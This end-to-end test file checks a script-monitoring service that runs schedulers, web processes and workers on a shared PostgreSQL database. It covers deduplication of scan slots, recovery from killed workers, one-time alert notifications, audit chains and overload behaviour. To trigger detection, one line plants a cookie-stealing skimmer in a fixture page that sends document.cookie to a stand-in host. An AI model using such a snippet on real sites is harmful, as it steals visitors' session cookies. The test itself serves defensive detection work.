// E2E on PostgreSQL: a scheduler, a web process and workers share one database. Each slot is recorded once, a killed
// worker's job goes to another, a redelivered job is refused by the slot fence, and each alert is notified once.

import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFixtureSite, type FixtureSite } from '../fixtures/fixture-site.js';
import { APP_JS, installShop } from '../fixtures/shop.js';
import { parseJson, runCli, tempProject, writeConfig } from '../fixtures/cli.js';
import { PASSWORD } from '../fixtures/access.js';
import { startHttpReceiver, type HttpReceiver } from '../fixtures/receivers.js';
import { databaseOf, plainSql } from '../fixtures/test-database.js';
import { startRole, type ServeProcess } from '../fixtures/serve-process.js';

const TARGETS = 6;

describe('workers on a shared PostgreSQL database', () => {
  let site: FixtureSite;
  let hook: HttpReceiver;
  let dir: string;
  const running: ServeProcess[] = [];
  const start = async (args: string[], ready: string, env: Record<string, string> = {}) => {
    const started = await startRole(dir, args, ready, env);
    running.push(started);
    return started;
  };
  const count = async (sql: string, ...params: (string | number)[]) => {
    const db = plainSql(databaseOf(dir));
    try {
      return (await db.prepare<(string | number)[], { n: number }>(sql).get(...params))!.n;
    } finally {
      await db.close();
    }
  };

  beforeAll(async () => {
    site = await startFixtureSite();
    installShop(site);
    hook = await startHttpReceiver();
    dir = tempProject('sw-workers-');
    const targets = Array.from({ length: TARGETS }, (_, i) => ({ name: `shop${i}`, url: site.url('shop.test', '/checkout') }));
    writeConfig(dir, targets, ['every: 3s', 'jitter: 0s', 'queue:\n  jobExpiry: 6s\n  perDomain: 100', 'canary:\n  enabled: false',
      `notify:\n  - type: webhook\n    url: ${hook.url}/hook\n    minSeverity: low`].join('\n'));
    assert.equal((await runCli(['scan'], { cwd: dir })).code, 0);
    assert.equal((await runCli(['approve', '--all', '--by', 'alice', '--note', 'initial inventory'], { cwd: dir })).code, 0);
  });
  afterAll(async () => {
    await Promise.all(running.map((p) => p.stop('SIGKILL')));
    await site?.close();
    await hook?.close();
  });

  it('records every slot once across workers, through a killed worker, a redelivery and a planted skimmer', async () => {
    // Two schedulers: each due slot is dispatched by one, each notification delivered by one.
    await start(['serve', '--role', 'scheduler'], 'serve.started');
    await start(['serve', '--role', 'scheduler'], 'serve.started');
    const web = await start(['serve', '--role', 'web', '--port', '0'], 'serve.started');
    const a = await start(['worker'], 'worker.started');
    const b = await start(['worker'], 'worker.started');
    const finished = (w: ServeProcess) => w.logs.filter((l) => l.event === 'scan.finished').length;
    await expect.poll(() => Math.min(finished(a), finished(b)), { timeout: 60_000 }).toBeGreaterThanOrEqual(2);

    // kill -9 of a worker mid-capture: the slot it had is recorded once, by the other worker, after the job expires.
    const seen = a.logs.length;
    const taken = await a.waitFor((l) => l.event === 'scan.started' && a.logs.indexOf(l) >= seen, 30_000, 'a scan the first worker starts');
    await a.stop('SIGKILL');
    const recorded = () => count('SELECT COUNT(*) AS n FROM scans s JOIN targets t ON t.id = s.target_id WHERE t.name = ? AND s.slot = ?', String(taken.target), String(taken.slot));
    await expect.poll(recorded, { timeout: 45_000 }).toBe(1);
    const trail = (w: ServeProcess) => w.logs.filter((l) => String(l.event).startsWith('scan.')).map((l) => `${l.event} ${l.target} ${l.slot ?? l.scanId}`).join('\n');
    assert.ok(b.logs.some((l) => l.event === 'scan.finished' && l.target === taken.target), `the other worker recorded ${taken.target} ${taken.slot}:\nA\n${trail(a)}\nB\n${trail(b)}`);

    // A worker that dies after its commit and before its job completes: the redelivered job is refused at commit.
    const c = await start(['worker'], 'worker.started', { SCRIPTWARDEN_FAULT: 'kill-after-commit' });
    const committed = await c.waitFor((l) => l.event === 'scan.finished', 30_000, 'the faulty worker commits a scan');
    await new Promise((resolve) => c.child.once('close', resolve));
    const dropped = await b.waitFor((l) => l.event === 'scan.duplicate_dropped' && l.slot === committed.slot, 45_000, 'the redelivered job refused');
    assert.equal(dropped.target, committed.target);

    // A skimmer planted on every page: one alert per page, each notified once, whichever worker raised it. The receiver
    // answers slowly, so both schedulers' deliveries see the same notifications due.
    hook.answerAfter(700);
    site.set('shop.test', '/static/app.js', `${APP_JS}\nnew Image().src = 'http://cdn-stats.test:${site.port}/p?d=' + btoa(document.cookie);`);
    const openAlerts = () => count("SELECT COUNT(DISTINCT target_id) AS n FROM alerts WHERE status = 'open' AND type <> 'target.unhealthy'");
    await expect.poll(openAlerts, { timeout: 60_000 }).toBe(TARGETS);
    const allAlerts = () => count("SELECT COUNT(*) AS n FROM alerts WHERE type <> 'target.unhealthy'");
    const changeNotices = () => hook.received.filter((r) => !r.body.includes('"type":"target.unhealthy"')).length;
    await expect.poll(async () => changeNotices() >= await allAlerts(), { timeout: 30_000 }).toBe(true);
    const metrics = await (await fetch(`${web.url}metrics`)).text();
    assert.match(metrics, /^scriptwarden_queue_depth\{vantage="default"\} \d+$/m);
    assert.match(metrics, /^scriptwarden_schedule_lag_seconds\{vantage="default"\} [\d.]+$/m);
    // Approvals through two web processes at once, while the workers go on scanning: one linear audit chain.
    assert.equal((await runCli(['users', 'add', 'vera', '--role', 'approver', '--password-stdin'], { cwd: dir, input: `${PASSWORD}\n` })).code, 0);
    const token = (await runCli(['tokens', 'create', '--user', 'vera', '--name', 'ci'], { cwd: dir })).stdout.trim();
    const webs = [web, await start(['serve', '--role', 'web', '--port', '0'], 'serve.started')];
    const open = parseJson<{ alerts: { id: number }[] }>(await runCli(['alerts', '--json'], { cwd: dir })).alerts.map((alert) => alert.id);
    const decided = await Promise.all(open.map((id, i) => fetch(`${webs[i % 2]!.url}api/alerts/${id}/approve`, {
      method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body: JSON.stringify({ note: 'our release' }),
    })));
    assert.deepEqual(decided.map((r) => r.status), open.map(() => 200));
    assert.equal((await runCli(['audit'], { cwd: dir })).code, 0, 'the audit chain holds');
    assert.equal(await count("SELECT COUNT(*) AS n FROM audit_log WHERE action LIKE 'alert.%'"), open.length, 'one audit entry per decision');
    for (const p of running) await p.stop('SIGTERM');

    const notified = hook.received.map((r) => (JSON.parse(r.body) as { event: string; alert: { id: number; type: string } }));
    const sent = notified.map((n) => `${n.event} ${n.alert.id}`);
    assert.equal(new Set(sent).size, sent.length, `each alert notified once: ${sent.join(', ')}`);
    const alertIds = notified.filter((n) => n.event === 'alert.opened' && n.alert.type !== 'target.unhealthy').map((n) => n.alert.id);
    // The skimmer's change and its new destination, raised once per page: no alert twice.
    const raised = await allAlerts();
    assert.equal(await count("SELECT COUNT(*) AS n FROM (SELECT DISTINCT target_id, profile, dedupe_key FROM alerts WHERE type <> 'target.unhealthy') d"), raised, 'no alert raised twice');
    assert.equal(raised % TARGETS, 0, `the same alerts on every page (${raised})`);
    assert.equal(alertIds.length, raised, 'every alert notified');
    assert.equal(await count('SELECT COUNT(*) AS n FROM (SELECT 1 FROM scans WHERE slot IS NOT NULL GROUP BY target_id, profile, slot HAVING COUNT(*) > 1) d'), 0, 'no slot recorded twice');
    assert.equal(await count('SELECT COUNT(*) AS n FROM (SELECT 1 FROM scans WHERE chain_seq IS NOT NULL GROUP BY target_id, profile HAVING COUNT(*) <> MAX(chain_seq) OR MIN(chain_seq) <> 1) d'), 0, 'every chain gapless');
    assert.ok(await count('SELECT COUNT(*) AS n FROM chain_anchors') >= 1, 'the scheduler anchored the chains at its stop');
    const verified = await runCli(['verify'], { cwd: dir });
    assert.equal(verified.code, 0, verified.stdout + verified.stderr);
  });

  it('under more work than one worker can do keeps the queue bounded and reports the lag, which a second worker brings down', async () => {
    const overloaded = tempProject('sw-workers-overload-');
    const pages = 10;
    const path = writeConfig(overloaded, Array.from({ length: pages }, (_, i) => ({ name: `busy${i}`, url: site.url('shop.test', '/checkout') })),
      ['every: 1s', 'jitter: 0s', 'queue:\n  jobExpiry: 30s\n  perDomain: 100', 'canary:\n  enabled: false'].join('\n'));
    writeFileSync(path, readFileSync(path, 'utf8').replace('  settle: 300ms', '  settle: 300ms\n  concurrency: 1'));
    const roles = [await startRole(overloaded, ['serve', '--role', 'scheduler'], 'serve.started'), await startRole(overloaded, ['serve', '--role', 'web', '--port', '0'], 'serve.started')];
    const first = await startRole(overloaded, ['worker'], 'worker.started');
    running.push(...roles, first);
    const sample = async () => {
      const text = await (await fetch(`${roles[1]!.url}metrics`)).text();
      const value = (name: string) => Number(new RegExp(`^${name}\\{vantage="default"\\} ([\\d.]+)$`, 'm').exec(text)?.[1] ?? NaN);
      return { depth: value('scriptwarden_queue_depth'), lag: value('scriptwarden_schedule_lag_seconds') };
    };
    const rss = (pid: number) => Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1] ?? 0) * 1024;
    // Ten pages due every second, one scan at a time: the oldest waiting page is soon several intervals late.
    await expect.poll(async () => (await sample()).lag, { timeout: 60_000 }).toBeGreaterThan(3);
    const memory = rss(first.child.pid!);
    const samples = [];
    for (let i = 0; i < 10; i++) {
      samples.push(await sample());
      await first.waitFor((l) => l.event === 'scan.finished' && first.logs.indexOf(l) >= first.logs.length - 1, 30_000, 'another scan');
    }
    assert.ok(samples.every((s) => s.depth <= pages), `at most one waiting job per page: ${samples.map((s) => s.depth).join(', ')}`);
    const lagAlone = Math.max(...samples.map((s) => s.lag));
    assert.ok(rss(first.child.pid!) < memory * 1.5 + 50 * 1024 * 1024, 'the worker\'s memory stays flat while work piles up');
    const overdue = async () => {
      const db = plainSql(databaseOf(overloaded));
      try {
        return (await db.prepare<[], { n: number }>("SELECT COUNT(*) AS n FROM alerts WHERE type = 'target.unhealthy' AND status = 'open' AND summary LIKE '% is overdue: %'").get())!.n;
      } finally {
        await db.close();
      }
    };
    await expect.poll(overdue, { timeout: 30_000 }).toBeGreaterThan(0);
    const second = await startRole(overloaded, ['worker'], 'worker.started');
    running.push(second);
    await expect.poll(async () => (await sample()).lag, { timeout: 60_000 }).toBeLessThan(lagAlone / 1.5);
    for (const p of [...roles, first, second]) await p.stop('SIGTERM');
  });

  it('refuses the shared roles on a SQLite database, and says why', async () => {
    const local = tempProject('sw-workers-sqlite-');
    const path = writeConfig(local, [{ name: 'home', url: site.url('shop.test', '/') }]);
    writeFileSync(path, readFileSync(path, 'utf8').replace(/^database: .*$/m, 'database: ./local.db'));
    for (const args of [['worker'], ['serve', '--role', 'web'], ['serve', '--role', 'scheduler']]) {
      const result = await runCli(args, { cwd: local });
      assert.equal(result.code, 2, `${args.join(' ')}: ${result.stderr}`);
      assert.match(result.stderr, /"database:" is a SQLite file \(.*local\.db\) that only one machine can use/);
    }
  });
});
